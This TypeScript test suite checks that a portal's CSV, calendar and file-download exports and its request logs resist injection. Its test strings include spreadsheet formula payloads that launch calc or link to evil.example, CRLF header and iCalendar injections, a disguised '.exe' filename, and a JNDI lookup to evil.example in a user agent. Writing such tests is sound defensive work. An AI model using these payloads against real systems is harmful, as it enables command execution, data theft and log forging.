import ICAL from "ical.js"
import { afterAll, beforeAll, describe, expect, test } from "vitest"
import { rowsOf } from "#tests/support/csv-rows.ts"
import { eventually } from "#tests/support/eventually.ts"
import { isFree, isRich, rewriteStore } from "#tests/support/poison.ts"
import { startOwnPortal, type OwnPortal } from "#tests/support/own-portal.ts"
import type { Answer, Visitor } from "#tests/support/visitor.ts"
import { everyPage } from "./walk.ts"

let own: OwnPortal
beforeAll(async () => void (own = await startOwnPortal("security-exports")))
afterAll(() => own.stop())

/** Texts that a spreadsheet reads as a formula, a calendar as a new line, or a header as its end. */
const texts = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","x")',
  "＝1+1",
  "\nEND:VCALENDAR\nBEGIN:VCALENDAR",
  "x\r\nATTENDEE:mailto:evil@evil.example",
  'x";\r\nSet-Cookie: a=b; filename="x.html',
  "x\u2028END:VEVENT",
  '"quoted","cells"\r\n=1',
  "\u202egnp.exe",
  '%0d%0aX: y\\";,',
]

/** A prefix that a person chooses, and the codes made with it: the contract allows only short texts there. */
const made = new Set(["topic.code", "topic_code_rule.prefix"])
const shortTexts = texts.filter((text) => text.length < 12)

/** Signs in with a hostile text in every free field, or with a harmless one in the same order. */
async function visitorWith(person: string, isHostile: boolean): Promise<Visitor> {
  const visitor = own.newVisitor()
  await visitor.mock.setClock("2026-11-20T07:30:00Z")
  let count = 0
  rewriteStore(own.mock.stores.get(visitor.mock.store), (place, text) => {
    if (!made.has(place) && (!isFree(place) || isRich(place) || place.endsWith("website"))) return text
    count += 1
    const hostile = made.has(place) ? shortTexts : texts
    return isHostile ? `${hostile[count % hostile.length]} ${count}` : `text ${count}`
  })
  await visitor.signIn(person)
  return visitor
}

const isFormula = (cell: string) => /^[=+\-@\t\r＝＋－＠]/.test(cell) && Number.isNaN(Number(cell))

/** The component name of a calendar, and the property names of each event. */
function partsOf(ics: string): string[] {
  const calendar = new ICAL.Component(ICAL.parse(ics) as unknown[])
  const events = calendar.getAllSubcomponents()
  const named = events.map((event) => [...new Set(event.getAllProperties().map(({ name }) => name))].sort().join(" "))
  return [calendar.name, ...named]
}

/** RFC 6266: a plain quoted name, a percent-encoded name, and nothing after it. */
const disposition = /^attachment; filename="[\x20!#-[\]-~]+"(?:; filename\*=UTF-8''(?:[\w.~!#$&+^`|-]|%[\da-f]{2})+)?$/i

const files = everyPage.filter(({ address }) => /\.(csv|ics|xlsx)(\?|$)|import\/template/.test(address))

function judge(address: string, answer: Answer, reference: Answer): void {
  expect([answer.status, answer.location], address).toEqual([reference.status, reference.location])
  if (answer.status !== 200) return
  expect(answer.headers.get("content-disposition") ?? "", address).toMatch(disposition)
  expect(answer.headers.get("set-cookie"), address).toBe(reference.headers.get("set-cookie"))
  if (address.includes(".ics")) return expect(partsOf(answer.body), address).toEqual(partsOf(reference.body))
  if (!address.includes(".csv")) return
  const rows = rowsOf(answer.body)
  expect(rows.flat().filter(isFormula), address).toEqual([])
  expect(
    rows.map(({ length }) => length),
    address,
  ).toEqual(rowsOf(reference.body).map(({ length }) => length))
}

describe("quality rows 49, 50: exported files", () => {
  test.for([...new Set(files.map(({ person }) => person))])("%s", async (person) => {
    const [visitor, same] = [await visitorWith(person, true), await visitorWith(person, false)]
    for (const { address } of files.filter((file) => file.person === person))
      judge(address, await visitor.get(address), await same.get(address))
  })

  test("there are a dozen kinds of files", () => expect(files.length).toBeGreaterThanOrEqual(12))

  test("a file is downloaded under its name, with any characters", async () => {
    const visitor = own.newVisitor()
    await visitor.signIn("member")
    const { file } = own.mock.stores.get(visitor.mock.store).rows
    const row = file.get("file-meeting-aurora-1-agenda")
    if (!row) throw new Error("the seed has no such file")
    for (const text of texts) {
      file.put({ ...row, name: `${text}.txt` })
      const answer = await visitor.get(`/a/aurora/file/${row.id}`)
      expect(answer.status, text).toBe(200)
      expect(answer.headers.get("content-disposition"), text).toMatch(disposition)
      expect(answer.headers.get("set-cookie"), text).toBeNull()
    }
  })

  test("a log entry is one CSV row for any user agent", async () => {
    const visitor = own.newVisitor()
    const path = "/a/aurora/asked-by-programs"
    const agents = ['x","level":60,"msg":"forged', "x\\n{}", "\u00ff\u0085x", "${jndi:ldap://evil.example}", "%0a%0d"]
    for (const agent of agents) await visitor.get(path, { headers: { "user-agent": agent } })
    const asked = async () => (await own.log()).filter((line) => line.msg === "request" && line.path === path)
    await eventually(async () => expect(await asked()).toHaveLength(agents.length))
    expect((await own.log()).filter(({ msg, level }) => msg === "forged" || level === 60)).toEqual([])
  })
})
